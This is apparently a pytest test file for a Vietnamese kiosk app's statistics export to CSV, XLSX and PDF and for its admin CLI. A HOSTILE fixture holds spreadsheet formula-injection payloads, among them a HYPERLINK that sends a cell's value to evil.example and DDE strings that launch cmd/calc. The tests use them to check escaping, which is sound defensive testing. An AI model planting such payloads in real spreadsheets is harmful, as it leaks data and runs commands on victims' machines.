import csv
import re
import errno
import subprocess
import sys
from datetime import date

import openpyxl
import pytest

from kiosk_app.admin.cli import main as admin_main
from kiosk_app.stats import export as E
from kiosk_app.stats.export import ExportError, Labels
from kiosk_app.stats.figures import DateRange
from kiosk_app.stats.service import export_to
from kiosk_app.strings import staff as T
from tests.conftest import ROOT

NOV = DateRange(date(2026, 11, 1), date(2026, 11, 30))
LABELS = Labels({"A": "Đăng ký khai sinh", "B": "Đăng ký kết hôn"}, {1: "Nguyễn Văn An"}, "UBND xã Bình Phú", "k1")


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_has_one_row_per_session_in_vietnamese(dataset, tmp_path):
    out = tmp_path / "nov.csv"
    written = export_to("csv", dataset.database.conn, NOV, LABELS, out, 7)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for Vietnamese
    rows = read_csv(out)
    assert rows[0] == T.EXPORT_SESSION_COLUMNS
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert sorted(by_id) == ["s10", "s2", "s3", "s4", "s5", "s6", "s7"]
    s2 = by_id["s2"]
    assert (s2["Ngày"], s2["Giờ bắt đầu"], s2["Kết quả"]) == ("01/11/2026", "00:00", "Người dân tự nộp được")
    s3 = by_id["s3"]
    assert s3["Cán bộ"] == "Nguyễn Văn An" and s3["Cán bộ hỗ trợ"] == "Có" and s3["Thời lượng (phút)"] == "15.0"
    assert by_id["s4"]["Lý do chưa nộp"] == "Chưa có tài khoản định danh mức 2"
    assert by_id["s4"]["Mức hài lòng"] == "Không hài lòng" and by_id["s4"]["Số lần đi lại"] == "2 lần trở lên"
    assert by_id["s5"]["Kết quả"] == "Chỉ luyện tập"
    assert by_id["s6"]["Kết quả"] == "Không rõ" and by_id["s6"]["Cách kết thúc"] == "Hết thời gian chờ"
    side = read_csv(written[1])
    assert side[0] == E.PROCEDURE_HEAD
    per = {r[0]: r for r in side[1:]}
    # total (not practice), online, self-filed, helped, not filed, no outcome, self %, completion %
    assert per["A"][1:] == ["Đăng ký khai sinh", "2", "2", "1", "1", "0", "0", "50.0", "100.0"]
    assert per["B"][2:8] == ["3", "1", "1", "0", "2", "0"]
    assert per[""][1:4] == [T.NO_PROCEDURE, "1", "0"]


def test_xlsx_read_back(dataset, tmp_path):
    out = tmp_path / "nov.xlsx"
    export_to("xlsx", dataset.database.conn, NOV, LABELS, out, 7)
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames == [T.SHEET_SUMMARY, T.SHEET_PROCEDURES, T.SHEET_MONTHS, T.SHEET_DAYS,
                             T.SHEET_OFFICERS, T.SHEET_REASONS, T.SHEET_SESSIONS]
    summary = {r[0]: r[1] for r in wb[T.SHEET_SUMMARY].iter_rows(values_only=True)}
    assert summary["Số phiên"] == 7 and summary["Người dân tự nộp"] == 2
    assert summary["Tỷ lệ tự nộp (%)"] == 66.7 and summary["Tỷ lệ hoàn thành (%)"] == 50.0
    assert summary["Người dân hài lòng"] == "66,7 % (2 trên 3 lượt)"
    assert summary["Cổng xác nhận đã nộp"] == 1
    months = list(wb[T.SHEET_MONTHS].iter_rows(values_only=True))
    assert months[1][:7] == ("2026-11", 7, 1, 3, 2, 1, 2)
    officers = {r[0]: r[1] for r in wb[T.SHEET_OFFICERS].iter_rows(values_only=True)}
    assert officers["Nguyễn Văn An"] == 1 and officers[T.NO_OFFICER] == 6
    sessions = list(wb[T.SHEET_SESSIONS].iter_rows(values_only=True))
    assert len(sessions) == 8 and sessions[0] == tuple(T.EXPORT_SESSION_COLUMNS)


def test_xlsx_splits_sessions_over_sheets_past_the_excel_limit(dataset, tmp_path, monkeypatch):
    monkeypatch.setattr(E, "XLSX_MAX_ROWS", 3)
    out = tmp_path / "split.xlsx"
    export_to("xlsx", dataset.database.conn, NOV, LABELS, out, 7)
    wb = openpyxl.load_workbook(out, read_only=True)
    parts = [n for n in wb.sheetnames if n.startswith(T.SHEET_SESSIONS)]
    assert parts == [T.SHEET_SESSIONS, f"{T.SHEET_SESSIONS} 2", f"{T.SHEET_SESSIONS} 3"]
    ids = [r[0] for n in parts for r in list(wb[n].iter_rows(values_only=True))[1:]]
    assert sorted(ids) == ["s10", "s2", "s3", "s4", "s5", "s6", "s7"]


def pdf_text(path):
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


def test_pdf_report_is_one_page_with_the_main_figures(dataset, tmp_path, qapp):
    out = tmp_path / "report.pdf"
    export_to("pdf", dataset.database.conn, NOV, LABELS, out, 7)
    info = subprocess.run(["pdfinfo", str(out)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"^Pages:\s+1$", info, re.M)
    text = pdf_text(out)
    assert T.REPORT_TITLE in text and "UBND xã Bình Phú" in text and "01/11/2026" in text
    assert "66,7 %" in text and "50,0 %" in text and "Đăng ký kết hôn" in text


def test_an_empty_range_still_exports(store, tmp_path, qapp):
    for fmt in ("csv", "xlsx", "pdf"):
        written = export_to(fmt, store.database.conn, NOV, LABELS, tmp_path / f"empty.{fmt}", 7)
        assert written[0].stat().st_size > 0
    assert read_csv(tmp_path / "empty.csv") == [T.EXPORT_SESSION_COLUMNS]
    assert T.STATS_EMPTY in pdf_text(tmp_path / "empty.pdf")


def test_missing_or_unwritable_targets_leave_nothing(dataset, tmp_path):
    conn = dataset.database.conn
    with pytest.raises(ExportError) as err:
        export_to("csv", conn, NOV, LABELS, tmp_path / "no-such-usb" / "x.csv", 7)
    assert err.value.code == "missing"
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(ExportError) as err:
        export_to("xlsx", conn, NOV, LABELS, blocker / "x.xlsx", 7)
    assert err.value.code == "missing"
    with pytest.raises(ExportError):
        export_to("csv", conn, NOV, LABELS, tmp_path, 7)  # a folder, not a file


def test_a_full_disk_leaves_the_old_file_and_no_partial_one(dataset, tmp_path, monkeypatch):
    (tmp_path / "usb").mkdir()
    out = tmp_path / "usb" / "nov.csv"
    out.write_text("previous export")
    real_open = open

    def full_open(path, mode="r", *args, **kwargs):
        f = real_open(path, mode, *args, **kwargs)
        if "w" in mode and str(path).endswith(".part"):
            def write(_data):
                raise OSError(errno.ENOSPC, "No space left on device")
            f.write = write
        return f

    monkeypatch.setattr("builtins.open", full_open)
    with pytest.raises(ExportError) as err:
        export_to("csv", dataset.database.conn, NOV, LABELS, out, 7)
    monkeypatch.undo()
    assert err.value.code == "full"
    assert out.read_text() == "previous export"
    assert [p.name for p in out.parent.iterdir()] == ["nov.csv"]


# ---------------------------------------------------------------- the command line


@pytest.fixture
def data_dir(dataset, kiosk_paths):
    dataset.flush()
    return str(kiosk_paths.data_dir)


def test_cli_stats_prints_the_figures(data_dir, capsys):
    assert admin_main(["stats", "--data-dir", data_dir, "--from", "2026-11-01", "--to", "30/11/2026"]) == 0
    out = capsys.readouterr().out
    assert "sessions 7, practice 1, filed 3 (alone 2, helped 1)" in out
    assert "self-filing rate 66.7% (filed alone / filed)" in out and "completion rate 50.0%" in out
    assert "2026-11" in out


def test_cli_stats_json_by_procedure(data_dir, capsys):
    import json
    assert admin_main(["stats", "--data-dir", data_dir, "--from", "2026-11-01", "--to", "2026-11-30",
                       "--by", "procedure", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["total"]["filed_alone"] == 2 and data["total"]["self_filing_rate"] == pytest.approx(2 / 3)
    assert {g["key"]: g["sessions"] for g in data["groups"]} == {"": 2, "A": 2, "B": 3}


@pytest.mark.parametrize("start, end, message", [
    ("2026-11-30", "2026-11-01", "ends (2026-11-01) before it starts"),
    ("30.11", "2026-12-01", "is not a date")])
def test_cli_refuses_bad_ranges(data_dir, capsys, start, end, message):
    assert admin_main(["stats", "--data-dir", data_dir, "--from", start, "--to", end]) == 1
    assert message in capsys.readouterr().err


def test_cli_without_a_database_says_so(tmp_path, capsys):
    assert admin_main(["stats", "--data-dir", str(tmp_path / "none"), "--from", "2026-11-01",
                       "--to", "2026-11-02"]) == 1
    assert "No kiosk database" in capsys.readouterr().err


def test_cli_export_each_format(data_dir, tmp_path, capsys):
    for fmt in ("csv", "xlsx", "pdf"):
        out = tmp_path / f"r.{fmt}"
        assert admin_main(["export", "--data-dir", data_dir, "--format", fmt, "--from", "2026-11-01",
                           "--to", "2026-11-30", "-o", str(out)]) == 0
        assert out.exists()
    assert len(read_csv(tmp_path / "r.csv")) == 8
    assert admin_main(["export", "--data-dir", data_dir, "--format", "csv", "--from", "2026-11-01",
                       "--to", "2026-11-30", "-o", str(tmp_path / "gone" / "r.csv")]) == 1
    assert "Nothing written" in capsys.readouterr().err


def test_cli_export_runs_as_a_command(data_dir, tmp_path):
    out = tmp_path / "r.pdf"
    done = subprocess.run([sys.executable, "-m", "kiosk_app.admin.cli", "export", "--data-dir", data_dir,
                           "--format", "pdf", "--from", "2026-11-01", "--to", "2026-11-30", "-o", str(out)],
                          cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "Tỷ lệ tự nộp" in pdf_text(out)


def test_a_read_only_usb_stick_is_named_as_such(dataset, tmp_path, monkeypatch):
    def refuse(*_a, **_k):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(E.os, "open", refuse)
    with pytest.raises(ExportError) as err:
        export_to("pdf", dataset.database.conn, NOV, LABELS, tmp_path / "r.pdf", 7)
    assert err.value.code == "read_only" and not (tmp_path / "r.pdf").exists()


# ---------------------------------------------------------------- hostile names and targets

HOSTILE = {"officer": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "code": "=1+1",
           "procedure": "=cmd|' /C calc'!A0", "commune": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture
def hostile(store):
    from tests.staff.conftest import add_session

    add_session(store.database, "x1", "2026-11-02T03:00:00.000+00:00", procedure_code=HOSTILE["code"],
                officer_id=1, outcome="filed_alone")
    add_session(store.database, "x2", "2026-11-02T04:00:00.000+00:00", procedure_code="-2+3", officer_id=2,
                outcome="not_filed", not_filed_reason="+cmd")
    return store, Labels({HOSTILE["code"]: HOSTILE["procedure"], "-2+3": "+SUM(A1)"},
                         {1: HOSTILE["officer"], 2: "\tTab\x07"}, HOSTILE["commune"], "k1")


def test_csv_text_cells_cannot_start_a_formula(hostile, tmp_path):
    store, labels = hostile
    written = export_to("csv", store.database.conn, NOV, labels, tmp_path / "x.csv", 7)
    for path in written:
        for row in read_csv(path)[1:]:
            for value in row:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
    rows = {r[0]: r for r in read_csv(written[0])[1:]}
    assert rows["x1"][6] == "'=1+1" and rows["x1"][7] == "'" + HOSTILE["procedure"]
    assert rows["x1"][8] == "'" + HOSTILE["officer"]
    assert E.csv_row([-3, 2.5, "-3", "An"]) == [-3, 2.5, "'-3", "An"]  # numbers stay numbers


def test_an_xlsx_with_hostile_names_opens_as_plain_text(hostile, tmp_path):
    store, labels = hostile
    out = tmp_path / "x.xlsx"
    export_to("xlsx", store.database.conn, NOV, labels, out, 7)
    wb = openpyxl.load_workbook(out)  # not read-only: cells keep their data type
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
    for value in HOSTILE.values():
        assert any(value in t for t in texts), value
    sessions = {r[0].value: r for r in wb[T.SHEET_SESSIONS].iter_rows(min_row=2)}
    assert sessions["x1"][6].value == "=1+1" and sessions["x1"][6].data_type == "s"
    assert sessions["x1"][8].value == HOSTILE["officer"] and sessions["x2"][8].value == "\tTab"


def test_o_refuses_a_symlink_a_fifo_and_a_device(dataset, tmp_path, capsys):
    import os
    import stat

    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    targets = [link, fifo]
    if os.geteuid() == 0:  # a device node like /dev/full (made here, never a real one)
        device = tmp_path / "full.csv"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))
        targets.append(device)
    for target in targets:
        for fmt in ("csv", "xlsx", "pdf"):
            with pytest.raises(ExportError) as err:
                export_to(fmt, dataset.database.conn, NOV, LABELS, target, 7)
            assert err.value.code == "not_a_file", (target, fmt)
    assert link.is_symlink() and victim.read_text() == "keep me"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    if os.geteuid() == 0:
        assert stat.S_ISCHR(os.lstat(tmp_path / "full.csv").st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
    # the side file of a CSV is checked too, before anything is written
    (tmp_path / "r-theo-thu-tuc.csv").symlink_to(victim)
    with pytest.raises(ExportError):
        export_to("csv", dataset.database.conn, NOV, LABELS, tmp_path / "r.csv", 7)
    assert not (tmp_path / "r.csv").exists() and victim.read_text() == "keep me"


def test_cli_export_to_a_symlink_says_so(data_dir, tmp_path, capsys):
    (tmp_path / "l.csv").symlink_to(tmp_path / "elsewhere.csv")
    assert admin_main(["export", "--data-dir", data_dir, "--format", "csv", "--from", "2026-11-01",
                       "--to", "2026-11-30", "-o", str(tmp_path / "l.csv")]) == 1
    assert "not a regular file" in capsys.readouterr().err and not (tmp_path / "elsewhere.csv").exists()


def test_stale_export_parts_are_recognised_and_removed(tmp_path):
    import os

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    stale = tmp_path / f".r.csv.kiosk-export-{dead}.ab12.part"
    mine = E.part_path(tmp_path / "r.csv")
    other = tmp_path / ".notes.part"
    for p in (stale, mine, other):
        p.write_text("x")
    assert E.remove_stale_parts(tmp_path) == [stale]
    assert mine.exists() and other.exists() and os.getpid() and not stale.exists()


def test_the_pdf_footer_is_the_communes_local_time(dataset, tmp_path, qapp, monkeypatch):
    """At 00:30 on 1 December in Vietnam (17:30 UTC on 30 November) the report says 01/12."""
    from datetime import datetime, timezone

    from kiosk_app.stats import figures
    from kiosk_app.stats.report_pdf import write_pdf

    assert figures.local_now(7, datetime(2026, 11, 30, 17, 30, tzinfo=timezone.utc)) == datetime(2026, 12, 1, 0, 30)
    real = figures.local_now
    monkeypatch.setattr("kiosk_app.stats.report_pdf.local_now",
                        lambda offset: real(offset, datetime(2026, 11, 30, 17, 30, tzinfo=timezone.utc)))
    write_pdf(figures.summary(dataset.database.conn, NOV), LABELS, tmp_path / "r.pdf")
    assert T.REPORT_MADE.format(when="00:30 01/12/2026") in pdf_text(tmp_path / "r.pdf")


# ---------------------------------------------------------------- commands that only read


@pytest.mark.parametrize("command", ["stats", "export"])
@pytest.mark.parametrize("start, end", [("9999-12-30", "9999-12-31"), ("0001-01-01", "0001-01-02"),
                                        ("9999-12-31", "9999-12-31")])
def test_cli_dates_at_the_calendar_edge_give_one_line(data_dir, tmp_path, capsys, command, start, end):
    extra = ["--format", "csv", "-o", str(tmp_path / "r.csv")] if command == "export" else []
    assert admin_main([command, "--data-dir", data_dir, "--from", start, "--to", end, *extra]) == 1
    err = capsys.readouterr().err
    assert err.startswith("Bad date range:") and err.count("\n") == 1 and "Traceback" not in err


def test_cli_refuses_a_huge_config_in_one_line(data_dir, tmp_path, capsys):
    big = tmp_path / "kiosk.toml"
    big.write_text('[kiosk]\ncommune = "' + "x" * (50 * 1024 * 1024) + '"\n')
    assert admin_main(["stats", "--data-dir", data_dir, "--config", str(big), "--from", "2026-11-01",
                       "--to", "2026-11-30"]) == 1
    captured = capsys.readouterr()
    assert "larger than 256 KB" in captured.err and len(captured.err) < 500 and captured.out == ""


def _listing(folder):
    return sorted((p.name, p.stat().st_size, p.stat().st_mtime_ns) for p in folder.iterdir())


@pytest.mark.parametrize("command", [["stats"], ["export", "--format", "csv"], ["export", "--format", "xlsx"]])
def test_read_only_commands_on_a_damaged_database_change_nothing(kiosk_paths, tmp_path, capsys, command):
    kiosk_paths.ensure()
    kiosk_paths.db_file.write_bytes(b"this is not a database" * 100)
    before = _listing(kiosk_paths.data_dir)
    extra = ["-o", str(tmp_path / "r.out")] if command[0] == "export" else []
    assert admin_main([*command, "--data-dir", str(kiosk_paths.data_dir), "--from", "2026-11-01",
                       "--to", "2026-11-30", *extra]) == 1
    err = capsys.readouterr().err
    assert "is damaged" in err and "No sessions" not in err
    assert _listing(kiosk_paths.data_dir) == before and not (tmp_path / "r.out").exists()


def test_read_only_commands_refuse_a_newer_database(kiosk_paths, capsys):
    import sqlite3

    kiosk_paths.ensure()
    conn = sqlite3.connect(kiosk_paths.db_file)
    conn.execute("PRAGMA user_version = 999")
    conn.close()
    assert admin_main(["stats", "--data-dir", str(kiosk_paths.data_dir), "--from", "2026-11-01",
                       "--to", "2026-11-30"]) == 1
    assert "from a newer kiosk (schema version 999" in capsys.readouterr().err


def test_read_only_commands_work_on_a_read_only_data_folder(dataset, kiosk_paths, tmp_path):
    """The data folder is bind-mounted read-only (in a private mount namespace) under the commands."""
    import shutil

    if shutil.which("unshare") is None or subprocess.run(["unshare", "-m", "true"]).returncode != 0:
        pytest.skip("needs unshare -m (root)")
    dataset.close()  # the kiosk stopped: no -wal or -shm file is left
    data = kiosk_paths.data_dir
    assert not (data / "kiosk.db-shm").exists()
    before = _listing(data)
    out = tmp_path / "out"
    out.mkdir()
    py = f"{sys.executable} -m kiosk_app.admin.cli"
    d = f"--data-dir {data} --from 2026-11-01 --to 2026-11-30"
    script = (f"mount --bind {data} {data} && mount -o remount,ro,bind {data} && "
              f"! touch {data}/probe 2>/dev/null && "
              f"{py} stats {d} && {py} export {d} --format csv -o {out}/r.csv && "
              f"{py} export {d} --format xlsx -o {out}/r.xlsx && {py} staff list --data-dir {data}")
    done = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script], cwd=ROOT,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "sessions 7, practice 1, filed 3 (alone 2, helped 1)" in done.stdout
    assert len(read_csv(out / "r.csv")) == 8 and (out / "r.xlsx").stat().st_size > 0
    assert _listing(data) == before


def test_a_killed_export_leaves_nothing_in_tmp_and_its_parts_are_removed_next_time(kiosk_paths, tmp_path):
    """An XLSX export killed mid-way: its session rows were only ever beside the target (never in
    TMPDIR), and the next export to that folder removes what it left."""
    import os
    import signal
    import sqlite3

    from tests.conftest import wait_until
    from kiosk_app.storage.database import connect, migrate

    kiosk_paths.ensure()
    db = connect(kiosk_paths.db_file)
    migrate(db, kiosk_paths.backups_dir)
    db.conn.execute("BEGIN")  # one transaction (the connection is in autocommit mode)
    db.conn.executemany(
        "INSERT INTO sessions (id, kiosk_id, started_at, start_kind, mode, outcome) VALUES (?, 'k', ?, 'resident', "
        "'self', 'filed_alone')", [(f"id-{i:07d}", f"2026-11-{1 + i % 28:02d}T03:00:00") for i in range(100_000)])
    db.conn.execute("COMMIT")
    db.conn.close()
    tmpdir, usb = tmp_path / "tmp", tmp_path / "usb"
    tmpdir.mkdir()
    usb.mkdir()
    env = {**os.environ, "TMPDIR": str(tmpdir), "QT_QPA_PLATFORM": "offscreen"}
    proc = subprocess.Popen([sys.executable, "-m", "kiosk_app.admin.cli", "export", "--data-dir",
                             str(kiosk_paths.data_dir), "--format", "xlsx", "--from", "2026-11-01", "--to",
                             "2026-11-30", "-o", str(usb / "r.xlsx")], cwd=ROOT, env=env)

    def sheet_rows_written():
        return [p for p in usb.iterdir() if ".kiosk-export-" in p.name and ".sheet6." in p.name
                and p.stat().st_size > 100_000]

    try:
        wait_until(sheet_rows_written, timeout=120, what="the sessions sheet being written")
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    left = [p.name for p in usb.iterdir()]
    assert left and all(n.startswith(".r.xlsx.kiosk-export-") and n.endswith(".part") for n in left)
    assert list(tmpdir.iterdir()) == []  # nothing with session rows anywhere else
    assert admin_main(["export", "--data-dir", str(kiosk_paths.data_dir), "--format", "csv", "--from",
                       "2026-11-01", "--to", "2026-11-01", "-o", str(usb / "r.csv")]) == 0
    assert sorted(p.name for p in usb.iterdir()) == ["r-theo-thu-tuc.csv", "r.csv"]
    sqlite3.connect(kiosk_paths.db_file).close()


def test_the_kiosk_removes_export_leftovers_at_start(kiosk_paths, tmp_path):
    from kiosk_app.stats.cleanup import remove_export_leftovers

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    left = kiosk_paths.data_dir / f".r.xlsx.kiosk-export-{dead}.sheet6.ab12.part"
    left.write_text("session rows")
    assert remove_export_leftovers(kiosk_paths.data_dir, [str(tmp_path / "no-usb")]) == [left]
    assert not left.exists()


def test_cli_stats_by_day_lists_every_day(data_dir, capsys):
    import json
    assert admin_main(["stats", "--data-dir", data_dir, "--from", "2026-11-01", "--to", "2026-11-30",
                       "--by", "day", "--json"]) == 0
    groups = json.loads(capsys.readouterr().out)["groups"]
    assert [g["key"] for g in groups] == [f"2026-11-{d:02d}" for d in range(1, 31)]
    assert {g["key"]: g["sessions"] for g in groups}["2026-11-04"] == 0


def test_xlsx_days_sheet_lists_every_day(dataset, tmp_path):
    out = tmp_path / "nov.xlsx"
    export_to("xlsx", dataset.database.conn, NOV, LABELS, out, 7)
    days = list(openpyxl.load_workbook(out, read_only=True)[T.SHEET_DAYS].iter_rows(values_only=True))[1:]
    assert [r[0] for r in days] == [f"2026-11-{d:02d}" for d in range(1, 31)] and days[3][1] == 0


def test_csv_lines_made_by_sqlite_are_what_the_csv_module_writes(hostile, tmp_path):
    """The sessions file's lines are built by SQLite (quotes, formula escaping, CRLF); they equal
    csv.writer's lines of the same rows made formula-safe, whatever the log and the names hold."""
    import io

    from tests.staff.conftest import add_session

    store, labels = hostile
    odd = {"id": 'x3,"q"', "kiosk_id": "=k\r\n1", "procedure_code": 'A,"B"', "not_filed_reason": "@x,\ny",
           "satisfaction_reason": '"', "end_reason": "-\n", "mode": "m,1", "duration_s": 95.25,
           "outcome": "not_filed", "satisfaction": 7, "trips": 1}
    add_session(store.database, odd.pop("id"), "2026-11-03T04:00:00.000+00:00", **odd)
    add_session(store.database, "x4", "2026-11-04T04:00:00.000+00:00", mode="self", end_reason=None,
                officer_id=9, helped=None, submitted=None)
    names = Labels({**labels.procedures, 'A,"B"': 'Tên, có "ngoặc"\nxuống dòng'}, labels.officers)
    conn = store.database.conn
    expected = io.StringIO(newline="")
    csv.writer(expected).writerows(map(E.csv_row, E.session_rows(conn, NOV, names, 7)))
    written = E.write_csv(conn, NOV, names, tmp_path / "x.csv", 7)
    with open(written[0], encoding="utf-8-sig", newline="") as f:
        f.readline()  # the heading
        assert f.read() == expected.getvalue()
    assert len(read_csv(written[0])) == 5


def test_csv_of_a_utf16_log_is_utf8_too(tmp_path):
    """The lines come from SQLite as bytes in the database's encoding; the file is UTF-8 anyway."""
    import sqlite3

    conn = sqlite3.connect(tmp_path / "u16.db", isolation_level=None)
    conn.execute("PRAGMA encoding = 'UTF-16le'")
    conn.execute("CREATE TABLE sessions (id TEXT, kiosk_id TEXT, started_at TEXT, start_kind TEXT, mode TEXT, "
                 "procedure_code TEXT, officer_id INT, helped INT, submitted INT, outcome TEXT, "
                 "not_filed_reason TEXT, duration_s REAL, satisfaction INT, trips INT, satisfaction_reason TEXT, "
                 "end_reason TEXT)")
    conn.execute("INSERT INTO sessions (id, kiosk_id, started_at, start_kind, mode, procedure_code, outcome) "
                 "VALUES ('s1', 'k1', '2026-11-02T03:00:00', 'resident', 'self', 'A', 'filed_alone')")
    conn.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, session_id TEXT, ts TEXT, event TEXT, data TEXT)")
    written = E.write_csv(conn, NOV, LABELS, tmp_path / "u.csv", 7)
    row = read_csv(written[0])[1]
    assert row[0] == "s1" and row[7] == "Đăng ký khai sinh" and row[10] == T.OUTCOME_NAMES["filed_alone"]


def _many_sessions(store, n):
    from tests.staff.conftest import add_session

    for i in range(n):  # over the month, some sharing a start time, some hostile
        add_session(store.database, f"m{i:03d}", f"2026-11-{1 + i % 28:02d}T{i % 24:02d}:00:00.000+00:00",
                    procedure_code=["A", "B", "=X,1", None][i % 4], outcome="filed_alone", duration_s=60 + i,
                    kiosk_id=["k1", "k2"][i % 2], end_reason=["finished", '-"\n'][i % 2])


def test_a_sessions_file_made_in_slices_is_the_one_made_in_one(store, tmp_path, monkeypatch):
    _many_sessions(store, 120)
    conn = store.database.conn
    out = tmp_path / "out"
    out.mkdir()
    whole = E.write_csv(conn, NOV, LABELS, out / "whole.csv", 7)[0].read_bytes()
    assert len(E.slices(*E.utc_bounds(NOV, 7), 120)) == 1
    monkeypatch.setattr(E, "LINES_PER_SLICE", 7)
    assert len(E.slices(*E.utc_bounds(NOV, 7), 120)) > 10
    twins = []
    make_twins = E._read_only_twins
    monkeypatch.setattr(E, "_read_only_twins", lambda c, n: twins.extend(make_twins(c, n)) or twins)
    sliced = E.write_csv(conn, NOV, LABELS, out / "sliced.csv", 7)[0].read_bytes()
    assert len(twins) == E.SLICE_THREADS == 2  # made by two threads
    rows = read_csv(out / "sliced.csv")
    assert sliced == whole and len(rows) == 121
    starts = [(r[2][6:] + r[2][3:5] + r[2][:2], r[3]) for r in rows[1:]]  # dd/mm/yyyy, HH:MM
    assert starts == sorted(starts)  # time order, within and across slices


def test_a_slice_that_fails_fails_the_export_and_leaves_nothing_running(store, tmp_path, monkeypatch):
    import sqlite3
    import threading

    _many_sessions(store, 120)
    monkeypatch.setattr(E, "LINES_PER_SLICE", 7)
    twins = []
    make_twins = E._read_only_twins

    def twins_that_break(conn, n):
        made = make_twins(conn, n)
        twins.extend(made)
        made[1].create_function("printf", -1, lambda *a: 1 / 0)  # a slice on this one fails
        return made

    monkeypatch.setattr(E, "_read_only_twins", twins_that_break)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ExportError) as caught:
        export_to("csv", store.database.conn, NOV, LABELS, out / "x.csv", 7)
    assert caught.value.code == "database"
    assert list(out.iterdir()) == []
    assert not [t for t in threading.enumerate() if t.name.startswith("csv-slices")]
    with pytest.raises(sqlite3.ProgrammingError):  # closed
        twins[0].execute("SELECT 1")


def test_a_sessions_file_of_a_database_in_memory_is_made_by_one_thread(tmp_path, monkeypatch):
    from kiosk_app.storage.database import connect, migrate

    db = connect(":memory:")
    migrate(db, tmp_path / "backups")
    for i in range(30):
        db.conn.execute("INSERT INTO sessions (id, kiosk_id, started_at, start_kind, mode) VALUES (?, 'k1', ?, "
                        "'resident', 'self')", [f"s{i}", f"2026-11-{1 + i % 28:02d}T03:00:00.000+00:00"])
    monkeypatch.setattr(E, "LINES_PER_SLICE", 5)
    assert E._read_only_twins(db.conn, 2) == []
    written = E.write_csv(db.conn, NOV, LABELS, tmp_path / "m.csv", 7)
    assert len(read_csv(written[0])) == 31


def test_slices_cover_the_range_in_whole_days_without_gaps():
    lo, hi = "2024-12-31T17:00:00", "2025-12-31T17:00:00"
    parts = E.slices(lo, hi, 200_000)
    assert parts[0][0] == lo and parts[-1][1] == hi and all(a[1] == b[0] for a, b in zip(parts, parts[1:]))
    assert 30 <= len(parts) <= 45 and all(p[0].endswith("T17:00:00") for p in parts)
    assert E.slices(lo, hi, 4000) == [(lo, hi)]  # a kiosk's year: one slice
    assert E.slices(lo, hi, 0) == [(lo, hi)]
    assert E.slices("0001-01-01T17:00:00", "9999-12-30T17:00:00", 0) == [("0001-01-01T17:00:00", "9999-12-30T17:00:00")]
    assert 200 <= len(E.slices("0001-01-01T17:00:00", "9999-12-30T17:00:00", 10**6)) <= 201
    assert len(E.slices("2026-11-01T17:00:00", "2026-11-02T17:00:00", 10**7)) == 1  # never less than a day
